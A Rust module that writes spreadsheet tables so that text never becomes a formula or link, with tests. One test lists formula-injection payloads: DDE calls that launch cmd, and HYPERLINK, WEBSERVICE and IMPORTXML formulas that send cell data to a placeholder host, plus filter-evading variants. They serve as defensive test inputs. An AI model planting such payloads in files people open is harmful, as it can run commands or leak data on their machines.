//! Writes tables that spreadsheets open without running anything.
//!
//! Text is only ever written as text: a cell that begins with `=`, `+`, `-` or `@` shows just that, and no address becomes
//! a link. The file is written beside its place under another name, readable by its owner alone, and then put there, so
//! that what was there before stays whole if the disk is full.

use std::io::{BufWriter, Write};
use std::path::Path;

use chrono::{Datelike, NaiveDate, NaiveDateTime, Timelike};
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet, XlsxError};

use super::Error;
use super::part::Part;

mod form;

pub use form::{FormOut, HelpOut, write_form};

/// Describes a table.
#[derive(Debug, Clone, Copy)]
pub struct TableOut<'a> {
    /// The name of the sheet; signs that Excel forbids there become spaces.
    pub sheet: &'a str,
    /// Lines above the table: what it is, of whom, when.
    pub titles: &'a [String],
    /// The columns.
    pub columns: &'a [ColumnOut],
    /// Lines under the table, and in the foot of each page that is printed.
    pub foot: &'a [String],
}

/// Describes a column of a table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ColumnOut {
    /// Its heading.
    pub heading: String,
    /// What its cells look like.
    pub kind: Kind,
}

/// Says what the cells of a column look like.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Text, broken into lines where it is long.
    Text,
    /// Days.
    Date,
    /// Days and times of day.
    DateTime,
    /// Numbers.
    Number,
}

/// Holds what a cell shows.
#[derive(Debug, Clone, PartialEq)]
pub enum CellOut {
    /// Nothing.
    Empty,
    /// Text; what is longer than a cell can hold (32 767 signs) ends in "…".
    Text(String),
    /// A day; before 1900, which Excel does not know, it is written as text.
    Date(NaiveDate),
    /// A moment, in the time the reader is to see.
    DateTime(NaiveDateTime),
    /// A number.
    Number(f64),
}

/// The most signs of a cell, in UTF-16 as Excel counts.
const CELL: usize = 32_767;
/// The narrowest and the widest column, in signs.
const WIDTH: (usize, usize) = (8, 60);

/// Writes a table and returns how many rows it has, headings and titles not counted.
///
/// # Errors
/// [`Error::Io`] where the file cannot be written, [`Error::Workbook`] where there are more rows than a sheet holds.
pub fn write_table(
    path: &Path,
    table: &TableOut<'_>,
    rows: impl IntoIterator<Item = Vec<CellOut>>,
) -> Result<u64, Error> {
    let mut book = Workbook::new();
    let written = fill(book.add_worksheet(), table, rows)?;
    save(&mut book, path)?;
    Ok(written)
}

/// Writes several short tables, each on a sheet of its own.
///
/// # Errors
/// As [`write_table`]; [`Error::Workbook`] also where two sheets have the same name.
pub fn write_tables(path: &Path, tables: &[(TableOut<'_>, Vec<Vec<CellOut>>)]) -> Result<(), Error> {
    let mut book = Workbook::new();
    for (table, rows) in tables {
        fill(book.add_worksheet(), table, rows.iter().cloned())?;
    }
    save(&mut book, path)
}

fn save(book: &mut Workbook, path: &Path) -> Result<(), Error> {
    let part = Part::create(path)?;
    let mut file = BufWriter::new(part.open()?);
    book.save_to_writer(&mut file)?;
    file.flush()?;
    file.into_inner().map_err(|error| Error::Io(error.into_error()))?.sync_all()?;
    part.put(path)
}

fn fill(
    sheet: &mut Worksheet,
    table: &TableOut<'_>,
    rows: impl IntoIterator<Item = Vec<CellOut>>,
) -> Result<u64, XlsxError> {
    let bold = Format::new().set_bold();
    sheet.set_name(sheet_name(table.sheet))?;
    let mut at = 0;
    for title in table.titles {
        sheet.write_string_with_format(at, 0, fitting(title), &bold)?;
        at += 1;
    }
    // A blank line parts the titles from the table.
    let head = if at > 0 { at + 1 } else { 0 };
    let formats: Vec<Format> = table.columns.iter().map(|column| format(column.kind)).collect();
    let mut widths = Vec::new();
    for (place, column) in (0u16..).zip(table.columns) {
        sheet.write_string_with_format(head, place, fitting(&column.heading), &bold)?;
        widths.push(width(&column.heading) + 2);
    }
    at = head;
    for row in rows {
        at += 1;
        for (((place, cell), format), widest) in (0u16..).zip(&row).zip(&formats).zip(&mut widths) {
            *widest = (*widest).max(write(sheet, at, place, cell, format)?);
        }
    }
    for (place, widest) in (0u16..).zip(widths) {
        let signs = u16::try_from(widest.clamp(WIDTH.0, WIDTH.1)).unwrap_or(u16::MAX);
        sheet.set_column_width(place, f64::from(signs) + 1.0)?;
    }
    sheet.set_freeze_panes(head + 1, 0)?;
    if let Some(last) = table.columns.len().checked_sub(1) {
        sheet.autofilter(head, 0, at, u16::try_from(last).unwrap_or(u16::MAX))?;
    }
    for (line, words) in (at + 2..).zip(table.foot) {
        sheet.write_string(line, 0, fitting(words))?;
    }
    if !table.foot.is_empty() {
        // "&" begins a code there; two stand for one.
        sheet.set_footer(format!("&L&8{}", table.foot.join("\n").replace('&', "&&")));
    }
    Ok(u64::from(at - head))
}

fn format(kind: Kind) -> Format {
    let plain = Format::new().set_align(rust_xlsxwriter::FormatAlign::Top);
    match kind {
        Kind::Text => plain.set_text_wrap(),
        Kind::Date => plain.set_num_format("yyyy-mm-dd"),
        Kind::DateTime => plain.set_num_format("yyyy-mm-dd hh:mm"),
        Kind::Number => plain,
    }
}

/// Writes a cell and returns how wide it is, in signs.
fn write(sheet: &mut Worksheet, row: u32, column: u16, cell: &CellOut, format: &Format) -> Result<usize, XlsxError> {
    let text = |sheet: &mut Worksheet, text: &str| {
        sheet.write_string_with_format(row, column, fitting(text), format)?;
        Ok(width(text))
    };
    match cell {
        CellOut::Empty => Ok(0),
        CellOut::Text(value) => text(sheet, value),
        CellOut::Date(day) => match excel_day(*day) {
            Some(value) => {
                sheet.write_datetime_with_format(row, column, &value, format)?;
                Ok(10)
            }
            None => text(sheet, &day.format("%Y-%m-%d").to_string()),
        },
        CellOut::DateTime(moment) => match excel_moment(*moment) {
            Some(value) => {
                sheet.write_datetime_with_format(row, column, &value, format)?;
                Ok(16)
            }
            None => text(sheet, &moment.format("%Y-%m-%d %H:%M").to_string()),
        },
        CellOut::Number(number) if number.is_finite() => {
            sheet.write_number_with_format(row, column, *number, format)?;
            Ok(number.to_string().len())
        }
        CellOut::Number(_) => Ok(0),
    }
}

/// Returns a day as Excel knows it; none before 1900.
pub(super) fn excel_day(day: NaiveDate) -> Option<ExcelDateTime> {
    let year = u16::try_from(day.year()).ok().filter(|&year| year >= 1900)?;
    ExcelDateTime::from_ymd(year, day.month() as u8, day.day() as u8).ok()
}

/// Returns a moment as Excel knows it; none before 1900.
pub(super) fn excel_moment(moment: NaiveDateTime) -> Option<ExcelDateTime> {
    let time = moment.time();
    let (hour, minute, second) = (time.hour() as u16, time.minute() as u8, time.second() as u8);
    excel_day(moment.date())?.and_hms(hour, minute, second).ok()
}

/// Returns the text as a cell can hold it: unwanted signs are gone, and what is too long is cut.
pub(super) fn fitting(text: &str) -> String {
    let text = crate::model::text::multi_line(text);
    if text.encode_utf16().count() <= CELL {
        return text;
    }
    let mut units = 1;
    let mut cut: String = text
        .chars()
        .take_while(|sign| {
            units += sign.len_utf16();
            units <= CELL
        })
        .collect();
    cut.push('…');
    cut
}

fn width(text: &str) -> usize {
    text.lines().map(|line| line.chars().count()).max().unwrap_or(0)
}

/// Returns a name Excel takes for a sheet: at most 31 signs, none of `[]:*?/\`, no apostrophe at either end.
pub(super) fn sheet_name(name: &str) -> String {
    let name: String = crate::model::text::single_line(name)
        .chars()
        .map(|sign| if "[]:*?/\\".contains(sign) { ' ' } else { sign })
        .scan(0, |units, sign| {
            *units += sign.len_utf16();
            (*units <= 31).then_some(sign)
        })
        .collect();
    let name = name.trim_matches(['\'', ' ']);
    if name.is_empty() { "1".to_owned() } else { name.to_owned() }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use std::fs;

    use super::*;
    use crate::transfer::{Format, Limits, open};
    use calamine::{Reader, Xlsx, open_workbook};

    /// What spreadsheets are known to run, or to have run.
    const PAYLOADS: [&str; 30] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.org?x=\"&A1,\"click\")",
        "=IMPORTXML(\"https://example.org\",\"//a\")",
        "=WEBSERVICE(\"https://example.org\")",
        "=DDE(\"cmd\",\"/C calc\",\"x\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "\"=1+1\"",
        "'=1+1",
        ";=1+1",
        ",=1+1",
        "{=1+1}",
        "=\u{200b}1+1",
        "=SUM(A1:A9)*cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+47 22 00 00 00",
        "https://example.org",
        "mailto:ase@example.org",
        "_x003D_1+1",
        "<f>1+1</f>",
    ];

    fn text_columns(n: usize) -> Vec<ColumnOut> {
        (1..=n).map(|n| ColumnOut { heading: format!("Heading {n}"), kind: Kind::Text }).collect()
    }

    #[test]
    fn nothing_that_is_written_runs() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("table.xlsx");
        let columns = text_columns(3);
        let table = TableOut { sheet: "=cmd|'/C'!A0", titles: &["=1+1".to_owned()], columns: &columns, foot: &[] };
        let rows = PAYLOADS
            .map(|text| vec![CellOut::Text(text.to_owned()), CellOut::Text(format!("x{text}")), CellOut::Number(1.0)]);
        assert_eq!(write_table(&path, &table, rows).unwrap(), 30);
        let mut book: Xlsx<_> = open_workbook(&path).unwrap();
        let sheet = book.sheet_names().remove(0);
        assert!(book.worksheet_formula(&sheet).unwrap().used_cells().next().is_none());
        assert!(book.hyperlinks_by_sheet_name(&sheet).unwrap().is_empty());
        // And every text is still there.
        let source = open(&path, Format::Auto, &Limits::default()).unwrap();
        let read: Vec<String> = source.rows().unwrap().map(|row| row.unwrap().cells.remove(1)).collect();
        let wanted: Vec<String> =
            PAYLOADS.iter().map(|text| crate::transfer::clean::cell(&format!("x{text}"))).collect();
        assert_eq!(read, wanted);
    }

    #[test]
    fn a_table_comes_back_as_it_was() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("table.xlsx");
        let kinds = [Kind::Text, Kind::Date, Kind::DateTime, Kind::Number];
        let columns: Vec<ColumnOut> = ["Purpose", "Day", "At", "Rows"]
            .into_iter()
            .zip(kinds)
            .map(|(heading, kind)| ColumnOut { heading: heading.to_owned(), kind })
            .collect();
        let table =
            TableOut {
                sheet: "Legal basis: Åse", titles: &["Åse Ødegård".to_owned()], columns: &columns, foot: &[]
            };
        let day = |year| NaiveDate::from_ymd_opt(year, 3, 1).unwrap();
        let rows = [
            vec![
                CellOut::Text("Sälj\nund".to_owned()),
                CellOut::Date(day(2024)),
                CellOut::DateTime(day(2024).and_hms_opt(13, 5, 0).unwrap()),
                CellOut::Number(12.5),
            ],
            vec![CellOut::Empty, CellOut::Date(day(1880)), CellOut::Empty, CellOut::Number(f64::NAN)],
            vec![CellOut::Text("å".repeat(40_000))],
        ];
        assert_eq!(write_table(&path, &table, rows).unwrap(), 3);
        let limits = Limits { cell_bytes: 100_000, ..Limits::default() };
        let source = open(&path, Format::Auto, &limits).unwrap();
        assert_eq!(source.headings(), ["Purpose", "Day", "At", "Rows"]);
        let rows: Vec<_> = source.rows().unwrap().map(Result::unwrap).collect();
        assert_eq!(rows[0].number, 4);
        assert_eq!(rows[0].cells, ["Sälj\nund", "2024-03-01", "2024-03-01T13:05:00", "12.5"]);
        assert_eq!(rows[1].cells, ["", "1880-03-01", "", ""]);
        assert_eq!(rows[2].cells[0].chars().count(), CELL);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
        }
        assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 1, "nothing is left beside it");
    }

    #[test]
    fn what_cannot_be_written_leaves_the_old_file() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("missing").join("table.xlsx");
        let table = TableOut { sheet: "a", titles: &[], columns: &text_columns(1), foot: &[] };
        assert!(matches!(write_table(&path, &table, []), Err(Error::Io(_))));
    }

    #[test]
    fn sheets_have_names_excel_takes() {
        for (given, wanted) in [
            ("Legal basis", "Legal basis"),
            ("a/b:c", "a b c"),
            ("'quoted'", "quoted"),
            ("", "1"),
            ("[]", "1"),
            ("aaaaaaaaaabbbbbbbbbbccccccccccdddd", "aaaaaaaaaabbbbbbbbbbccccccccccd"),
        ] {
            assert_eq!(sheet_name(given), wanted);
        }
    }
}
